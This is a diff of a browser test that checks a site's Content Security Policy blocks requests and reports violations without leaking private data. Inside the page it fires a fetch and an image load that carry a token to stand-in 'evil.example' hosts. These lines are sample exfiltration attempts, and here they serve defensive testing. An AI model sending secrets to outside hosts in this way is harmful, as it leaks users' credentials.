@@ -43,24 +43,28 @@ describe.each([
     const server = await start({ root: out, out, upstreamPort: upstream.port, brand: BRAND });
     const context = await (await sharedBrowser()).newContext();
     const page = await context.newPage();
+    await page.clock.install();
     await page.goto(`${server.url}/coming-soon`);
     await page.getByRole('main').waitFor();
-    await page.evaluate(async () => {
-      const violated = new Set<string>();
-      const isReported = new Promise<void>((resolve) => {
-        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
-          if (violated.add(effectiveDirective).size === 2) resolve();
-        });
-      });
-      void fetch('https://x.evil.example/PRIVATE?token=SECRET').catch(() => undefined);
-      new Image().src = 'https://y.evil.example/PRIVATE.png?token=SECRET';
-      await isReported;
-    });
     const reports = () => upstream.posted.filter((line) => line.startsWith(`${COLLECTOR} `)).join();
+    const asReport = (directive: string) => `"kind":"csp","directive":"${directive}","blocked":"evil.example"`;
+    /** What breaks the policy, once the page has seen that it does. */
+    const violate = (kind: 'call' | 'picture') =>
+      page.evaluate(async (what) => {
+        const isViolated = new Promise((resolve) => document.addEventListener('securitypolicyviolation', resolve));
+        if (what === 'call') void fetch('https://x.evil.example/PRIVATE?token=SECRET').catch(() => undefined);
+        else new Image().src = 'https://y.evil.example/PRIVATE.png?token=SECRET';
+        await isViolated;
+      }, kind);
+
+    await violate('call');
+    // Whatever the page has noted goes once it has loaded what sends it, ten seconds later.
+    const afterTenSeconds = () => page.clock.runFor(10_000).then(reports);
+    await expect.poll(afterTenSeconds).toContain(asReport('connect-src'));
     // What is not sent by then goes as the page closes.
+    await violate('picture');
     await page.goto('about:blank');
-    for (const directive of ['connect-src', 'img-src'])
-      await expect.poll(reports).toContain(`"kind":"csp","directive":"${directive}","blocked":"evil.example"`);
+    await expect.poll(reports).toContain(asReport('img-src'));
     expect(reports()).not.toMatch(/PRIVATE|SECRET|x\.evil|y\.evil/);
     await context.close();
     await server.close();
